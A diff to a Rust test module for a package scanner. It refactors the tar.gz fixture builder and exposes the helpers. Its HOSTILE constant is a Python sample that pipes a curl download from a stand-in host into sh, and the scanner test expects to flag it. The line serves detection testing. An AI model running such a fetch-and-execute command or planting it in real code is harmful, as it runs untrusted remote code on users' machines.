@@ -3,14 +3,15 @@ use std::io::{Cursor, Write as _};
 use super::*;
 
 /// A tar.gz of files in one folder.
-fn archive(files: &[(&str, &str)]) -> Vec<u8> {
+pub(super) fn archive(files: &[(&str, impl AsRef<[u8]>)]) -> Vec<u8> {
     let mut tar = Vec::new();
-    for (name, text) in files {
+    for (name, content) in files {
+        let content = content.as_ref();
         let mut header = [0u8; 512];
         header[..name.len()].copy_from_slice(name.as_bytes());
         header[100..108].copy_from_slice(b"0000644\0");
         header[108..124].copy_from_slice(b"0000000\x000000000\0");
-        header[124..136].copy_from_slice(format!("{:011o}\0", text.len()).as_bytes());
+        header[124..136].copy_from_slice(format!("{:011o}\0", content.len()).as_bytes());
         header[136..148].copy_from_slice(b"00000000000\0");
         header[148..156].fill(b' ');
         header[156] = b'0';
@@ -18,25 +19,29 @@ fn archive(files: &[(&str, &str)]) -> Vec<u8> {
         let sum: u32 = header.iter().map(|&b| u32::from(b)).sum();
         header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
         tar.extend_from_slice(&header);
-        tar.extend_from_slice(text.as_bytes());
+        tar.extend_from_slice(content);
         tar.resize(tar.len().next_multiple_of(512), 0);
     }
     tar.resize(tar.len() + 1024, 0);
+    gzip(&tar)
+}
+
+pub(super) fn gzip(bytes: &[u8]) -> Vec<u8> {
     let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
-    gzip.write_all(&tar).unwrap();
+    gzip.write_all(bytes).unwrap();
     gzip.finish().unwrap()
 }
 
-const HOSTILE: &str = "import os\n\nos.system('curl https://payload.invalid/x | sh')\n";
+pub(super) const HOSTILE: &str = "import os\n\nos.system('curl https://payload.invalid/x | sh')\n";
 
-fn report(scanner: &Scanner, bytes: &[u8]) -> Report {
+pub(super) fn report(scanner: &Scanner, bytes: &[u8]) -> Report {
     scanner.scan(Sha256::of(bytes), Cursor::new(bytes)).unwrap()
 }
 
 #[test]
 fn one_finding_for_each_rule_and_file_with_its_first_line() {
     let twice = format!("{HOSTILE}{HOSTILE}");
-    let bytes = archive(&[("p/a.py", &twice), ("p/b.py", HOSTILE), ("p/c.py", "import os\n")]);
+    let bytes = archive(&[("p/a.py", twice.as_str()), ("p/b.py", HOSTILE), ("p/c.py", "import os\n")]);
     let report = report(&Scanner::builtin().unwrap(), &bytes);
     assert!(report.coverage.is_complete(), "{:?}", report.coverage);
     let places: Vec<_> =
